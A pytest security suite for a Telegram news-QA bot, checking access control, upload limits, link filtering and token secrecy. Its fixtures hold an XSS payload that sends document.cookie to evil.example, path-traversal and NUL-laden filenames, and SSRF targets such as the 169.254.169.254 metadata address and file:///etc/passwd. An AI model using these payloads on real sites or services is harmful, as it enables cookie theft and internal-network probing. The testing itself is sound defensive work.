"""Nobody in who should not be: the real `newsqa telegram` process against a fake Bot API.

Every handler refuses outsiders (buttons included), adding is for admins only, uploads are
limited and hostile files answered in one valid message, links to private addresses are refused,
an ingest from another process is served without a restart, and the token shows nowhere.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.telegram import render
from tests.documents import pdf_bytes
from tests.telegram_bot import NEWSQA, BotProcess, start_bot
from tests.telegram_fake import FakeBotAPI, SentMessage, parse_html

pytestmark = pytest.mark.model

TOKEN = "777123456:AAsecuritySecretTokenNeverShown_42x"
SECRET = TOKEN.partition(":")[2]
ALICE, BOB, DAVE, MALLORY = 701, 702, 703, 666
NEWSROOM, OTHER_GROUP = -2001, -2002
UPLOAD_LIMIT = 50_000  # bytes: TELEGRAM_MAX_UPLOAD_MB=0.05


def vellmar_articles() -> bytes:
    """Six outlets quoting six people on the Vellmar furnaces: enough evidence for More."""
    rows = []
    for n, (who, outlet) in enumerate(
        [
            ("Orla Brennick", "Harbour Gazette"),
            ("Tomas Vell", "Coastal Review"),
            ("Ines Marrow", "Tidewater Times"),
            ("Piet Gallan", "Northern Ledger"),
            ("Ada Corsin", "Valley Courier"),
            ("Bram Holt", "Estuary Post"),
        ]
    ):
        text = (
            f"{who} spoke about the Vellmar glass furnaces on day {n}. "
            f"“The Vellmar furnaces will keep burning through winter number {n},” {who} said. "
            f"Apprentices in workshop {n} rationed sand and mended crucibles of kind {n}."
        )
        rows.append(
            {
                "title": f"Vellmar furnaces, view {n}",
                "text": text,
                "source": outlet,
                "url": f"https://example.org/vellmar/{n}",
                "published": f"2024-03-0{n + 1}",
            }
        )
    return "\n".join(json.dumps(r) for r in rows).encode()


@pytest.fixture(scope="module")
def bot(bundled_index: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BotProcess]:
    work = tmp_path_factory.mktemp("telegram-security")
    shutil.copytree(bundled_index, work / "index")
    with FakeBotAPI(TOKEN, privacy_mode=False) as api:
        running = start_bot(
            api,
            work / "index",
            work / "logs",
            TOKEN,
            TELEGRAM_ALLOWED_USERS=f"{ALICE},{DAVE}",
            TELEGRAM_ALLOWED_CHATS=str(NEWSROOM),
            TELEGRAM_ADMINS=str(BOB),
            TELEGRAM_RATE_LIMIT="1000",
            TELEGRAM_MAX_UPLOAD_MB=str(UPLOAD_LIMIT / 1e6),
        )
        try:
            api.wait_until_polling(timeout=60)
            bob = api.user(BOB, "Bob")
            since = len(api.sent)
            api.send_document(bob, bob, "vellmar.jsonl", vellmar_articles())
            [report] = api.wait_for_messages(BOB, 1, timeout=60, since=since)
            assert "Added (6)" in visible(report)
            yield running
        finally:
            running.stop()
        assert api.internal_errors == []


def visible(message: SentMessage) -> str:
    assert message.text is not None and message.parse_mode == "HTML"
    return parse_html(message.text)[0]  # raises on anything Telegram would refuse


def one_reply(bot: BotProcess, chat_id: int, since: int) -> SentMessage:
    [reply] = bot.api.wait_for_messages(chat_id, 1, timeout=60, since=since)
    time.sleep(0.3)  # and nothing after it
    assert [m for m in bot.api.sent[since:] if m.chat_id == chat_id] == [reply]
    return reply


def articles_held(bot: BotProcess) -> int:
    alice = bot.api.user(ALICE, "Alice")
    since = len(bot.api.sent)
    bot.api.send_text(alice, alice, "/stats")
    text = visible(one_reply(bot, ALICE, since))
    return int(text.split("Articles: ")[1].split()[0])


ACTIONS = ["/start", "/help", "/ask What did Lavrov say?", "What did Lavrov say?", "/sources",
           "/stats", "/add https://example.org/a", "document"]  # fmt: skip


@pytest.mark.parametrize("action", ACTIONS)
def test_an_outsider_is_refused_by_every_handler(bot: BotProcess, action: str) -> None:
    stranger = MALLORY * 1000 + ACTIONS.index(action)  # strangers are told only once
    mallory = bot.api.user(stranger, "Mallory")
    since, calls = len(bot.api.sent), len(bot.api.requests)
    if action == "document":
        bot.api.send_document(mallory, mallory, "mine.txt", b"Title\n\nSome text about things.")
    else:
        bot.api.send_text(mallory, mallory, action)
    assert render.REFUSAL in visible(one_reply(bot, stranger, since))
    assert "getFile" not in [r.method for r in bot.api.requests[calls:]]  # nothing downloaded


@pytest.mark.parametrize("button", ["more", "sources"])
def test_an_outsider_pressing_a_button_is_refused(bot: BotProcess, button: str) -> None:
    alice = bot.api.user(ALICE, "Alice")
    mallory = bot.api.user(MALLORY * 1000 + 100 + len(button), "Mallory")  # one per button
    group = bot.api.group(OTHER_GROUP, "Elsewhere")  # alice may ask anywhere; mallory may not
    since = len(bot.api.sent)
    bot.api.send_text(group, alice, "/ask What did they say about the Vellmar furnaces?")
    answer = bot.final_part(OTHER_GROUP, since)[-1]
    rows = (answer.reply_markup or {}).get("inline_keyboard", [])
    assert [b["callback_data"] for row in rows for b in row] == ["more", "sources"]
    since = len(bot.api.sent)
    query = bot.api.press_button(group, mallory, answer.message_id, button)
    deadline = time.monotonic() + 10
    while bot.api.callback_answers()[query] is None and time.monotonic() < deadline:
        time.sleep(0.05)
    reply = bot.api.callback_answers()[query]
    assert reply is not None and render.REFUSAL in reply["text"] and reply.get("show_alert")
    time.sleep(0.3)
    assert [m for m in bot.api.sent[since:] if m.chat_id == OTHER_GROUP] == []


def test_only_admins_add_articles(bot: BotProcess) -> None:
    held = articles_held(bot)
    dave = bot.api.user(DAVE, "Dave")  # allowed to ask, not to add
    since = len(bot.api.sent)
    bot.api.send_document(dave, dave, "mine.txt", b"Title\n\nSome text about the harbour.")
    assert render.ADMINS_ONLY in visible(one_reply(bot, DAVE, since))
    since = len(bot.api.sent)
    bot.api.send_text(dave, dave, "/add https://example.org/a")
    assert render.ADMINS_ONLY in visible(one_reply(bot, DAVE, since))
    assert articles_held(bot) == held


def test_an_upload_over_the_limit_is_refused_without_downloading(bot: BotProcess) -> None:
    bob = bot.api.user(BOB, "Bob")
    since, calls = len(bot.api.sent), len(bot.api.requests)
    bot.api.send_document(bob, bob, "big.txt", b"Big\n\n" + b"word " * (UPLOAD_LIMIT // 4))
    reply = visible(one_reply(bot, BOB, since))
    assert "too large" in reply and "limit is 50,000 bytes" in reply
    assert "getFile" not in [r.method for r in bot.api.requests[calls:]]


LATIN1 = "Café crème\n\nLe café de la gare a rouvert, a dit le maire à Noël.\n".encode("latin-1")
CP1252 = "Smart “quotes” – dashes\n\nThe mayor’s “café” reopened – at last.\n".encode("cp1252")
SCRIPTS = (
    b"<html><head><title>Harbour <script>alert(1)</script></title></head><body>"
    b"<script>document.location='https://evil.example/'+document.cookie</script>"
    b"<article><p>The harbour authority repainted the cranes of Port Ellery bright orange on "
    b"Tuesday, after weeks of complaints from the dockers of the eastern quay.</p>"
    b"<p onclick='alert(2)'>Officials said the cranes would be named by schoolchildren.</p>"
    b"</article><iframe src='javascript:alert(3)'></iframe></body></html>"
)
BROKEN_JSONL = (
    b'{"title": "Kept one", "text": "The first good line about the ferry fares of Ellery."}\n'
    b"{not json at all\n"
    b'{"title": "No text"}\n'
    b'{"title": "Kept two", "text": "The second good line about the ferry fares of Ellery."}\n'
)


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("noise.txt", bytes(range(256)) * 40, "Could not read"),
        ("empty.txt", b"", "Could not read"),
        ("cafe.txt", LATIN1, "Added (1)\n• Café crème"),
        ("smart.txt", CP1252, "Added (1)\n• Smart “quotes” – dashes"),
        ("page.html", SCRIPTS, "Added (1)"),
        ("broken.jsonl", BROKEN_JSONL, "Added (2)"),
        ("../../etc/passwd.txt", b"Passwd story\n\nA story named like a system file, harmless.\n",
         "Added (1)\n• Passwd story"),
        ("evil\nname\x00<b>.txt", b"Evil name\n\nA file whose name holds a newline and a NUL.\n",
         "Added (1)\n• Evil name"),
        ("report.exe", b"MZ\x90\x00 ...", "I can read"),
        ("report.pdf", b"%PDF-1.4 ...", "Could not read"),
        ("release.pdf", pdf_bytes([["Quay reopens", "The quay reopened on Monday."]],
                                  title="Quay reopens"), "Added (1)\n• Quay reopens"),
        ("scan.pdf", pdf_bytes([[]], scanned=True), "it looks scanned"),
    ],
)  # fmt: skip
def test_hostile_uploads_get_one_valid_reply(
    bot: BotProcess, name: str, content: bytes, expected: str
) -> None:
    bob = bot.api.user(BOB, "Bob")
    since = len(bot.api.sent)
    bot.api.send_document(bob, bob, name, content)
    message = one_reply(bot, BOB, since)
    reply = visible(message)  # valid HTML, or the fake would have refused it
    assert expected in reply
    assert "<script" not in (message.text or "")  # a title's markup is shown as text, escaped
    assert "evil.example" not in reply and "alert(2)" not in reply and "\x00" not in reply
    if name == "broken.jsonl":
        assert "broken.jsonl:2" in reply and "broken.jsonl:3" in reply
    if name.startswith("../"):
        assert not Path("/etc/passwd.txt").exists()


@pytest.mark.parametrize(
    ("link", "why"),
    [
        ("http://127.0.0.1:9/private", "127.0.0.1 is a private or local address"),
        ("http://localhost/admin", "localhost is a private or local address"),
        ("http://10.0.0.1/admin", "10.0.0.1 is a private or local address"),
        ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a private or local"),
        ("http://[::1]/", "::1 is a private or local address"),
        ("file:///etc/passwd", "Send a link that starts with http"),
        ("ftp://example.org/x", "Send a link that starts with http"),
    ],
)
def test_add_refuses_private_and_non_web_links(bot: BotProcess, link: str, why: str) -> None:
    bob = bot.api.user(BOB, "Bob")
    since = len(bot.api.sent)
    bot.api.send_text(bob, bob, f"/add {link}")
    assert why in visible(one_reply(bot, BOB, since))


def test_an_ingest_from_another_process_is_served_without_a_restart(
    bot: BotProcess, tmp_path: Path
) -> None:
    alice = bot.api.user(ALICE, "Alice")
    asking = threading.Event()
    errors: list[str] = []

    def keep_asking() -> None:  # questions in flight while the other process writes
        while not asking.is_set():
            since = len(bot.api.sent)
            bot.api.send_text(alice, alice, "What did Lavrov say about sanctions?")
            try:
                bot.final_part(ALICE, since, timeout=60)
            except TimeoutError as e:
                errors.append(str(e))
                return

    asker = threading.Thread(target=keep_asking)
    asker.start()
    article = tmp_path / "zeppelin.txt"
    article.write_text(
        "Zeppelin returns to Lake Constance\n\nA new zeppelin made its first flight over Lake "
        "Constance on Sunday, carrying twelve passengers from Friedrichshafen, the operator "
        "said.\n"
    )
    index = bot.stdout.parent.parent / "index"
    done = subprocess.run(
        [str(NEWSQA), "--index", str(index), "ingest", str(article)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    asking.set()
    asker.join(60)
    assert done.returncode == 0, done.stderr
    assert errors == []
    since = len(bot.api.sent)
    bot.api.send_text(alice, alice, "Where did the new zeppelin fly?")
    answer = bot.final_part(ALICE, since)
    assert "Zeppelin returns to Lake Constance" in visible(answer[-1])


def test_the_token_shows_nowhere(bot: BotProcess) -> None:
    """Errors included: a failed download is logged with its traceback and apologised for."""
    bob = bot.api.user(BOB, "Bob")
    bot.api.fail_next("getFile", 400, "Bad Request: injected download failure")
    since = len(bot.api.sent)
    bot.api.send_document(bob, bob, "fails.txt", b"Title\n\nText.")
    assert "something went wrong" in (one_reply(bot, BOB, since).plain_text or "")
    assert bot.stop() == 0
    output = bot.output()
    assert "handling an update failed" in output
    assert "injected download failure" in output.lower()  # Telegram's reason, capitalised
    seen = [output]
    seen += [json.dumps(r.params, default=str) + json.dumps(r.response) for r in bot.api.requests]
    seen += [m.text or "" for m in bot.api.sent]
    seen += [json.dumps(a) for a in bot.api.callback_answers().values()]
    for text in seen:
        assert TOKEN not in text and SECRET not in text
